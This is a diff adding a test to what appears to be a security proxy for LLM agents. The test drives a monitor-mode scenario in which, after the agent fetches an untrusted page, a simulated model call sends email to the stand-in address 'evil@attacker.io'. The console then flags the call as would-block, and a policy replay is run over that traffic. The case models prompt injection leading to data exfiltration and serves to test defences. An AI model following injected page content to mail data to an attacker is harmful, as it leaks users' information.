@@ -257,3 +257,48 @@ def test_migration_fills_the_spend_rollup_from_recorded_interactions(tmp_path):
                                        "output_tokens, interactions FROM spend_daily ORDER BY day")).all()
     assert [tuple(row) for row in rows] == [("2026-11-24", "p1", "gpt-4o-x", "one", 0.75, 20, 10, 2),
                                             ("2026-11-25", "p1", "gpt-4o", "one", 1.0, 10, 5, 1)]
+
+
+def test_monitor_mode_and_replay_through_the_console(proxy, upstream):
+    """Switch the default profile to monitor mode in the console, see what would have been refused, then replay a
+    policy that allows it over that traffic and read the report; the interaction page renders the conversation
+    (the fetched page as a tool result, the call marked would-block) and its raw record as the API gives it."""
+    import time
+
+    from tests.security_drivers import PAGE, OpenAIDriver
+
+    driver = OpenAIDriver("openai")
+    console = signed_in(proxy.url)
+    profile = proxy.api("GET", "/profiles").json()["data"][0]
+    form = {"name": profile["name"], "mode": "monitor", "global_policy": "", "metadata_only": ""}
+    assert console.post(f"/console/profiles/{profile['id']}", form).status_code == 302
+    upstream.reply_with(driver.reply(False, {"to": "evil@attacker.io"}))
+    assert driver.ask(proxy, False, with_result=True, result=PAGE).calls == [
+        ("send_email", {"to": "evil@attacker.io"})]  # monitor mode: through
+    proxy.flush()
+    monitor = console.get("/console/monitor").text
+    assert "send_email" in monitor and "The context contains untrusted data" in monitor and "1 call went" in monitor
+
+    [row] = proxy.api("GET", "/interactions").json()["data"]
+    page = console.get(f"/console/interactions/{row['id']}").text
+    assert "would block" in page and 'class="tool-call would-block"' in page
+    assert "tool result</span> <strong>fetch_url</strong>" in page and PAGE.replace("<", "&lt;") \
+        .replace(">", "&gt;") in page
+    raw = console.get(f"/console/interactions/{row['id']}/raw").json()
+    assert raw == proxy.api("GET", f"/interactions/{row['id']}").json()
+
+    started = console.post("/console/replays", {"profile_id": profile["id"], "kind": "call", "tool": "send_email",
+                                                "action": "allow_when_context_is_untrusted", "cond_key": "to",
+                                                "cond_operator": "endsWith", "cond_value": "@attacker.io"})
+    assert started.status_code == 302
+    deadline = time.monotonic() + 20
+    while "Replay done" not in (report := console.get(started.headers["Location"]).text):
+        assert time.monotonic() < deadline, report
+        time.sleep(0.1)
+    assert re.search(r"<dt>Newly allowed</dt><dd><span class=\"badge ok\">1</span>", report)
+    # A bad candidate is explained next to its field, and nothing starts.
+    refused = console.post("/console/replays", {"kind": "call", "tool": "send_email", "action": "block_always",
+                                                "cond_key": "to", "cond_operator": "regex", "cond_value": "(x"})
+    assert refused.status_code == 400 and re.search(r'class="condition-row">(?:(?!</div>).)*class="field-error"',
+                                                    refused.text, re.S)
+    assert len(proxy.api("GET", "/policy-replays").json()["data"]) == 1
